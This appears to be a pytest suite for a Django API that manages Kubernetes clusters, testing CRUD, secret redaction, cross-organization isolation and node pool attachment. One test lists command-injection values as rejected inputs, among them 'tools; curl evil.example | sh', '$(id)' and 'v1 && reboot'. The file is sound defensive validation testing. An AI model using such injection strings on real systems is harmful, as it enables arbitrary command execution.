"""Clusters: CRUD, attachments, secrets, and the narrow-write rule."""

import re
import uuid

import pytest
from django.db import transaction

from apps.clusters.models import Cluster, ClusterNodePool
from apps.clusters.services import cluster_release_references
from apps.clusters.tests.factories import (
    AnnotationFactory,
    ClusterFactory,
    ClusterMetadataFactory,
    LabelFactory,
    NodePoolFactory,
    TaintFactory,
)
from apps.dns.tests.factories import DomainFactory, RecordSetFactory
from apps.infrastructure.models import Server
from apps.infrastructure.tests.factories import LoadBalancerFactory, ServerFactory

pytestmark = pytest.mark.django_db

KUBECONFIG = (
    "apiVersion: v1\nkind: Config\nusers:\n- name: admin\n  user:\n    token: CANARY-KUBECONFIG\n"
)
SECRET_KEYS = {"kubeconfig", "random_token", "certificate_key"}


def bastion_for(org):
    return ServerFactory(
        organization=org, role=Server.Role.BASTION, public_ip_address="198.51.100.9"
    )


def test_create_generates_join_secrets_encrypted_and_never_returns_them(api, org):
    response = api.post(
        "/api/v1/clusters",
        {
            "name": "prod",
            "cluster_provider": "hetzner",
            "region": "fsn1",
            "docker_image": "ghcr.io/glueops/tools",
            "docker_tag": "v1",
        },
        format="json",
    )
    assert response.status_code == 201, response.json()
    body = response.json()
    assert body["status"] == "pre_pending"
    assert body["cluster_provider"] == "hetzner"
    assert body["last_error"] == ""
    assert body["node_pools"] == []
    assert body["metadata"] == {}
    assert not SECRET_KEYS & set(body)
    assert "org_key" not in body and "org_secret" not in body
    cluster = Cluster.objects.get(pk=body["id"])
    assert cluster.organization_id == org.pk
    assert re.fullmatch(r"[0-9a-f]{6}\.[0-9a-f]{16}", cluster.random_token)
    assert re.fullmatch(r"[0-9a-f]{64}", cluster.certificate_key)
    assert (
        cluster.random_token
        != Cluster.objects.exclude(pk=cluster.pk).values_list("random_token", flat=True).first()
    )


def test_name_is_required(api):
    response = api.post("/api/v1/clusters", {"region": "x"}, format="json")
    assert response.status_code == 400
    assert "name" in response.json()["fields"]


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("docker_image", "ghcr.io/glueops/tools:v1"),
        ("docker_image", "ghcr.io/GlueOps/tools"),
        ("docker_image", "tools; curl evil.example | sh"),
        ("docker_image", "tools@sha256:" + "a" * 64),
        ("docker_image", "$(id)"),
        ("docker_tag", "-v1"),
        ("docker_tag", "v1 && reboot"),
        ("docker_tag", "v1\nid"),
        ("docker_tag", "t" * 129),
    ],
)
def test_a_bad_docker_image_or_tag_is_400_naming_the_field_on_create_and_patch(
    api, org, field, value
):
    created = api.post("/api/v1/clusters", {"name": "prod", field: value}, format="json")
    cluster = ClusterFactory(organization=org)
    patched = api.patch(f"/api/v1/clusters/{cluster.pk}", {field: value}, format="json")

    for response in (created, patched):
        assert response.status_code == 400
        assert response.json()["message"].startswith(f"{field}: ")
        assert list(response.json()["fields"]) == [field]
    assert Cluster.objects.count() == 1
    cluster.refresh_from_db()
    assert (cluster.docker_image, cluster.docker_tag) == ("ghcr.io/glueops/cluster-tools", "v1.0.0")


def test_docker_image_and_tag_stay_optional_and_accept_registry_ports(api, org):
    bare = api.post("/api/v1/clusters", {"name": "bare"}, format="json")
    assert bare.status_code == 201
    assert (bare.json()["docker_image"], bare.json()["docker_tag"]) == ("", "")

    response = api.patch(
        f"/api/v1/clusters/{bare.json()['id']}",
        {
            "docker_image": "registry.example.com:5000/team/cluster_tools",
            "docker_tag": "1.2.3-rc_1",
        },
        format="json",
    )
    assert response.status_code == 200
    assert response.json()["docker_image"] == "registry.example.com:5000/team/cluster_tools"
    assert response.json()["docker_tag"] == "1.2.3-rc_1"


def test_no_kubeconfig_or_join_secret_appears_in_list_or_get(api, org):
    cluster = ClusterFactory(organization=org, kubeconfig=KUBECONFIG)
    listed = api.get("/api/v1/clusters")
    got = api.get(f"/api/v1/clusters/{cluster.pk}")
    for response in (listed, got):
        assert response.status_code == 200
        assert "CANARY" not in response.content.decode()
    assert not SECRET_KEYS & set(listed.json()[0])


def test_reveal_returns_secrets_only_to_roles_that_may_reveal(client_for, owner, member, org):
    cluster = ClusterFactory(organization=org, kubeconfig=KUBECONFIG)
    url = f"/api/v1/clusters/{cluster.pk}?reveal=true"
    denied = client_for(member, org).get(url)
    assert denied.status_code == 403
    assert "CANARY" not in denied.content.decode()
    revealed = client_for(owner, org).get(url)
    assert revealed.status_code == 200
    assert revealed.json()["kubeconfig"] == KUBECONFIG
    assert revealed.json()["random_token"] == cluster.random_token
    assert revealed.json()["certificate_key"] == cluster.certificate_key


def test_patch_writes_only_given_fields_and_resets_status(api, org):
    cluster = ClusterFactory(organization=org, status="ready", last_error="boom")
    response = api.patch(
        f"/api/v1/clusters/{cluster.pk}", {"cluster_provider": "aws"}, format="json"
    )
    assert response.status_code == 200
    assert response.json()["cluster_provider"] == "aws"
    assert response.json()["name"] == cluster.name
    assert (response.json()["status"], response.json()["last_error"]) == ("pre_pending", "")


def test_empty_patch_changes_nothing(api, org):
    cluster = ClusterFactory(organization=org, status="ready")
    response = api.patch(f"/api/v1/clusters/{cluster.pk}", {}, format="json")
    assert response.status_code == 200
    assert response.json()["status"] == "ready"


def test_delete_then_404(api, org):
    cluster = ClusterFactory(organization=org)
    assert api.delete(f"/api/v1/clusters/{cluster.pk}").status_code == 204
    response = api.get(f"/api/v1/clusters/{cluster.pk}")
    assert response.status_code == 404
    assert response.json()["code"] == "not_found"
    assert api.get("/api/v1/clusters/nope").json()["code"] == "bad_cluster_id"


# --- single references ------------------------------------------------------------------------

REFERENCES = {
    "captain-domain": ("domain_id", "captain_domain", "domain_not_found", DomainFactory),
    "control-plane-record-set": (
        "record_set_id",
        "control_plane_record_set",
        "recordset_not_found",
        RecordSetFactory,
    ),
    "apps-load-balancer": (
        "load_balancer_id",
        "apps_load_balancer",
        "lb_not_found",
        LoadBalancerFactory,
    ),
    "glueops-load-balancer": (
        "load_balancer_id",
        "glueops_load_balancer",
        "lb_not_found",
        LoadBalancerFactory,
    ),
    "bastion": ("server_id", "bastion_server", "server_not_found", None),
}


def make_target(route, org):
    factory = REFERENCES[route][3]
    if factory is None:
        return bastion_for(org)
    if factory is RecordSetFactory:
        return RecordSetFactory(domain=DomainFactory(organization=org))
    return factory(organization=org)


@pytest.mark.parametrize("route", REFERENCES)
def test_attach_shows_the_object_and_detach_clears_exactly_that_column(api, org, route):
    field, key, _, _ = REFERENCES[route]
    cluster = ClusterFactory(organization=org, status="ready", last_error="old failure")
    target = make_target(route, org)
    response = api.post(
        f"/api/v1/clusters/{cluster.pk}/{route}", {field: str(target.pk)}, format="json"
    )
    assert response.status_code == 200, response.json()
    body = response.json()
    assert body[key]["id"] == str(target.pk)
    assert (body["status"], body["last_error"]) == ("pre_pending", "")

    response = api.delete(f"/api/v1/clusters/{cluster.pk}/{route}")
    assert response.status_code == 200
    # Absent references are omitted, as the original's pointers with `omitempty`.
    assert key not in response.json()
    assert type(target).objects.filter(pk=target.pk).exists()


def test_record_set_gives_the_control_plane_fqdn(api, org):
    cluster = ClusterFactory(organization=org)
    record = RecordSetFactory(
        domain=DomainFactory(organization=org, domain_name="example.org"), name="k8s"
    )
    body = api.post(
        f"/api/v1/clusters/{cluster.pk}/control-plane-record-set",
        {"record_set_id": str(record.pk)},
        format="json",
    ).json()
    assert body["control_plane_fqdn"] == "k8s.example.org"
    assert body["control_plane_record_set"]["domain_id"] == str(record.domain_id)


@pytest.mark.parametrize("route", REFERENCES)
def test_attaching_another_orgs_object_is_404_and_writes_nothing(api, org, other_org, route):
    field, key, code, _ = REFERENCES[route]
    cluster = ClusterFactory(organization=org, status="ready")
    theirs = make_target(route, other_org)
    response = api.post(
        f"/api/v1/clusters/{cluster.pk}/{route}", {field: str(theirs.pk)}, format="json"
    )
    assert response.status_code == 404
    assert response.json()["code"] == code
    cluster.refresh_from_db()
    assert getattr(cluster, f"{key}_id") is None
    assert cluster.status == "ready"


@pytest.mark.parametrize("route", REFERENCES)
def test_malformed_or_missing_target_id_is_400_naming_the_field(api, org, route):
    field = REFERENCES[route][0]
    cluster = ClusterFactory(organization=org)
    for body in ({field: "not-a-uuid"}, {}):
        response = api.post(f"/api/v1/clusters/{cluster.pk}/{route}", body, format="json")
        assert response.status_code == 400
        assert field in response.json()["fields"]


@pytest.mark.parametrize("route", REFERENCES)
def test_another_orgs_cluster_is_404_for_a_user_and_an_org_key(
    api, org, other_org, org_key_client, route
):
    field = REFERENCES[route][0]
    theirs = ClusterFactory(organization=other_org, status="ready")
    target = make_target(route, org)
    for client in (api, org_key_client(org)):
        url = f"/api/v1/clusters/{theirs.pk}/{route}"
        response = client.post(url, {field: str(target.pk)}, format="json")
        assert response.status_code == 404
        assert response.json()["code"] == "not_found"
        assert client.delete(url).status_code == 404
    theirs.refresh_from_db()
    assert theirs.status == "ready"


def test_bastion_must_be_a_bastion_role_server(api, org):
    cluster = ClusterFactory(organization=org)
    worker = ServerFactory(organization=org, role=Server.Role.WORKER)
    response = api.post(
        f"/api/v1/clusters/{cluster.pk}/bastion", {"server_id": str(worker.pk)}, format="json"
    )
    assert response.status_code == 400
    assert response.json()["code"] == "server_not_bastion"
    cluster.refresh_from_db()
    assert cluster.bastion_server_id is None


def test_an_attach_writes_only_its_own_column(api, org):
    """A stale client attaching the bastion does not undo a load balancer set meanwhile."""
    cluster = ClusterFactory(organization=org)
    lb = LoadBalancerFactory(organization=org)
    bastion = bastion_for(org)
    stale = Cluster.objects.get(pk=cluster.pk)
    api.post(
        f"/api/v1/clusters/{cluster.pk}/apps-load-balancer",
        {"load_balancer_id": str(lb.pk)},
        format="json",
    )
    api.post(
        f"/api/v1/clusters/{cluster.pk}/bastion", {"server_id": str(bastion.pk)}, format="json"
    )
    assert stale.apps_load_balancer_id is None
    cluster.refresh_from_db()
    assert (cluster.apps_load_balancer_id, cluster.bastion_server_id) == (lb.pk, bastion.pk)
    assert cluster.name == stale.name


def test_writes_to_a_deleted_cluster_are_404_and_do_not_resurrect_it(api, org):
    cluster = ClusterFactory(organization=org)
    lb = LoadBalancerFactory(organization=org)
    Cluster.objects.filter(pk=cluster.pk).delete()
    for method, route, body in [
        ("post", "apps-load-balancer", {"load_balancer_id": str(lb.pk)}),
        ("delete", "bastion", None),
        ("post", "kubeconfig", {"kubeconfig": KUBECONFIG}),
        ("delete", "kubeconfig", None),
    ]:
        response = getattr(api, method)(
            f"/api/v1/clusters/{cluster.pk}/{route}", body, format="json"
        )
        assert response.status_code == 404
    assert (
        api.patch(f"/api/v1/clusters/{cluster.pk}", {"name": "x"}, format="json").status_code == 404
    )
    assert not Cluster.objects.filter(pk=cluster.pk).exists()


def test_deleting_an_attached_server_or_load_balancer_detaches_it(api, org):
    bastion = bastion_for(org)
    lb = LoadBalancerFactory(organization=org)
    cluster = ClusterFactory(organization=org, bastion_server=bastion, glueops_load_balancer=lb)
    bastion.delete()
    lb.delete()
    body = api.get(f"/api/v1/clusters/{cluster.pk}").json()
    assert "bastion_server" not in body and "glueops_load_balancer" not in body


# --- kubeconfig -------------------------------------------------------------------------------


def test_kubeconfig_is_stored_and_cleared_without_ever_being_echoed(api, org, client_for, owner):
    cluster = ClusterFactory(organization=org, status="ready")
    response = api.post(
        f"/api/v1/clusters/{cluster.pk}/kubeconfig", {"kubeconfig": KUBECONFIG}, format="json"
    )
    assert response.status_code == 200
    assert "CANARY" not in response.content.decode()
    assert response.json()["status"] == "pre_pending"
    cluster.refresh_from_db()
    assert cluster.kubeconfig == KUBECONFIG
    stored = Cluster.objects.filter(pk=cluster.pk).values_list(
        "kubeconfig", "random_token", "certificate_key"
    )[0]
    assert all(column and "CANARY" not in column for column in stored)
    assert "CANARY" not in api.get("/api/v1/clusters").content.decode()

    response = api.delete(f"/api/v1/clusters/{cluster.pk}/kubeconfig")
    assert response.status_code == 200
    cluster.refresh_from_db()
    assert cluster.kubeconfig == ""
    revealed = client_for(owner, org).get(f"/api/v1/clusters/{cluster.pk}?reveal=true").json()
    assert revealed["kubeconfig"] == ""


def test_kubeconfig_is_required_to_set_it(api, org):
    cluster = ClusterFactory(organization=org)
    response = api.post(f"/api/v1/clusters/{cluster.pk}/kubeconfig", {}, format="json")
    assert response.status_code == 400
    assert "kubeconfig" in response.json()["fields"]


# --- node pools -------------------------------------------------------------------------------


def test_attach_and_detach_node_pools(api, org):
    cluster = ClusterFactory(organization=org)
    pool = NodePoolFactory(organization=org)
    url = f"/api/v1/clusters/{cluster.pk}/node-pools"
    response = api.post(url, {"node_pool_id": str(pool.pk)}, format="json")
    assert response.status_code == 200
    assert [p["id"] for p in response.json()["node_pools"]] == [str(pool.pk)]
    # Attaching twice keeps one membership.
    assert api.post(url, {"node_pool_id": str(pool.pk)}, format="json").status_code == 200
    assert ClusterNodePool.objects.filter(cluster=cluster).count() == 1

    response = api.delete(f"{url}/{pool.pk}")
    assert response.status_code == 200
    assert response.json()["node_pools"] == []
    # Detaching what is not attached is idempotent, as in the original.
    again = api.delete(f"{url}/{pool.pk}")
    assert again.status_code == 200 and again.json()["node_pools"] == []
    stranger = NodePoolFactory()
    assert api.delete(f"{url}/{stranger.pk}").status_code == 200
    assert api.delete(f"{url}/bad").status_code == 400


def test_attaching_another_orgs_node_pool_is_404(api, org, other_org, org_key_client):
    cluster = ClusterFactory(organization=org)
    theirs = NodePoolFactory(organization=other_org)
    for client in (api, org_key_client(org)):
        response = client.post(
            f"/api/v1/clusters/{cluster.pk}/node-pools",
            {"node_pool_id": str(theirs.pk)},
            format="json",
        )
        assert response.status_code == 404
        assert response.json()["code"] == "nodepool_not_found"
    assert not ClusterNodePool.objects.exists()


def test_another_orgs_cluster_is_404_on_every_cluster_route(api, org, other_org, org_key_client):
    theirs = ClusterFactory(organization=other_org)
    pool = NodePoolFactory(organization=org)
    for client in (api, org_key_client(org)):
        base = f"/api/v1/clusters/{theirs.pk}"
        assert client.get(base).status_code == 404
        assert client.patch(base, {"name": "x"}, format="json").status_code == 404
        assert client.delete(base).status_code == 404
        assert (
            client.post(
                f"{base}/node-pools", {"node_pool_id": str(pool.pk)}, format="json"
            ).status_code
            == 404
        )
        assert client.delete(f"{base}/node-pools/{pool.pk}").status_code == 404
        assert (
            client.post(f"{base}/kubeconfig", {"kubeconfig": "x"}, format="json").status_code == 404
        )
        assert client.get("/api/v1/clusters").json() == []
    assert Cluster.objects.filter(pk=theirs.pk).exists()


def test_viewer_reads_clusters_but_cannot_change_them(client_for, viewer, org):
    cluster = ClusterFactory(organization=org)
    bob = client_for(viewer, org)
    assert bob.get(f"/api/v1/clusters/{cluster.pk}").status_code == 200
    assert (
        bob.patch(f"/api/v1/clusters/{cluster.pk}", {"name": "x"}, format="json").status_code == 403
    )
    assert bob.delete(f"/api/v1/clusters/{cluster.pk}/bastion").status_code == 403
    assert bob.get(f"/api/v1/clusters/{cluster.pk}?reveal=true").status_code == 403


# --- shape and query count --------------------------------------------------------------------


def _full_cluster(org, pools, servers):
    domain = DomainFactory(organization=org)
    cluster = ClusterFactory(
        organization=org,
        kubeconfig=KUBECONFIG,
        captain_domain=domain,
        control_plane_record_set=RecordSetFactory(domain=domain, organization=org),
        apps_load_balancer=LoadBalancerFactory(organization=org),
        glueops_load_balancer=LoadBalancerFactory(organization=org, kind="glueops"),
        bastion_server=bastion_for(org),
    )
    for _ in range(pools):
        pool = NodePoolFactory(organization=org)
        through = {"organization": org}
        pool.servers.add(
            *ServerFactory.create_batch(servers, organization=org), through_defaults=through
        )
        pool.labels.add(LabelFactory(organization=org), through_defaults=through)
        pool.taints.add(TaintFactory(organization=org), through_defaults=through)
        pool.annotations.add(AnnotationFactory(organization=org), through_defaults=through)
        cluster.node_pools.add(pool, through_defaults=through)
    ClusterMetadataFactory(cluster=cluster, key="env", value="prod")
    return cluster


def test_cluster_response_has_the_contract_shape_with_nested_objects(api, org):
    cluster = _full_cluster(org, pools=1, servers=2)
    body = api.get(f"/api/v1/clusters/{cluster.pk}").json()
    assert set(body) >= {
        "id",
        "name",
        "captain_domain",
        "control_plane_record_set",
        "control_plane_fqdn",
        "apps_load_balancer",
        "glueops_load_balancer",
        "bastion_server",
        "cluster_provider",
        "region",
        "status",
        "last_error",
        "node_pools",
        "docker_image",
        "docker_tag",
        "created_at",
        "updated_at",
    }
    assert body["metadata"] == {"env": "prod"}
    assert body["bastion_server"]["role"] == "bastion"
    pool = body["node_pools"][0]
    assert len(pool["servers"]) == 2
    assert set(pool["taints"][0]) >= {"key", "value", "effect"}
    assert set(pool["labels"][0]) >= {"key", "value"}
    assert set(pool["annotations"][0]) >= {"key", "value"}
    assert set(body["captain_domain"]) >= {"id", "domain_name", "zone_id", "credential_id"}


def test_list_query_count_is_constant_in_clusters_pools_and_servers(
    api, org, django_assert_max_num_queries
):
    _full_cluster(org, pools=1, servers=1)
    with django_assert_max_num_queries(12) as small:
        assert len(api.get("/api/v1/clusters").json()) == 1
    for _ in range(4):
        _full_cluster(org, pools=3, servers=3)
    with django_assert_max_num_queries(len(small.captured_queries)):
        response = api.get("/api/v1/clusters")
    body = response.json()
    assert len(body) == 5
    assert sum(len(p["servers"]) for c in body for p in c["node_pools"]) == 1 + 4 * 9
    assert "CANARY" not in response.content.decode()


def test_q_filters_clusters_by_name(api, org):
    ClusterFactory(organization=org, name="Production")
    ClusterFactory(organization=org, name="staging")
    assert [c["name"] for c in api.get("/api/v1/clusters?q=prod").json()] == ["Production"]


def test_unknown_cluster_is_404(api):
    assert api.get(f"/api/v1/clusters/{uuid.uuid4()}").json()["code"] == "not_found"


def test_releasing_a_domain_detaches_it_and_its_record_sets_and_resets_the_clusters(org):
    """What the DNS delete service must call before deleting a domain or a record set."""
    domain = DomainFactory(organization=org)
    record_set = RecordSetFactory(domain=domain)
    captain = ClusterFactory(organization=org, captain_domain=domain, status="ready")
    control_plane = ClusterFactory(
        organization=org, control_plane_record_set=record_set, status="failed", last_error="x"
    )
    bystander = ClusterFactory(organization=org, status="ready")

    with transaction.atomic():
        released = cluster_release_references(domain=domain)
        domain.delete()

    assert released == 2
    for cluster in (captain, control_plane):
        cluster.refresh_from_db()
        assert (cluster.captain_domain_id, cluster.control_plane_record_set_id) == (None, None)
        assert (cluster.status, cluster.last_error) == (Cluster.Status.PRE_PENDING, "")
    bystander.refresh_from_db()
    assert bystander.status == "ready"


def test_releasing_a_record_set_resets_only_the_clusters_using_it(org):
    record_set = RecordSetFactory(domain=DomainFactory(organization=org))
    user = ClusterFactory(organization=org, control_plane_record_set=record_set, status="ready")
    bystander = ClusterFactory(organization=org, status="ready")

    with transaction.atomic():
        cluster_release_references(record_set=record_set)
        record_set.delete()

    user.refresh_from_db()
    bystander.refresh_from_db()
    assert (user.control_plane_record_set_id, user.status) == (None, Cluster.Status.PRE_PENDING)
    assert bystander.status == "ready"


def test_every_cluster_response_carries_the_installations_base_url(api, org, settings):
    settings.BASE_URL = "https://autoglue.example.com"
    created = api.post(
        "/api/v1/clusters",
        {"name": "edge", "cluster_provider": "aws", "region": "us-east-1"},
        format="json",
    )
    assert created.status_code == 201, created.content
    assert created.json()["base_url"] == "https://autoglue.example.com"
    cluster_id = created.json()["id"]
    assert api.get(f"/api/v1/clusters/{cluster_id}").json()["base_url"] == settings.BASE_URL
    assert [c["base_url"] for c in api.get("/api/v1/clusters").json()] == [settings.BASE_URL]
    patched = api.patch(f"/api/v1/clusters/{cluster_id}", {"region": "eu-west-1"}, format="json")
    assert patched.json()["base_url"] == settings.BASE_URL
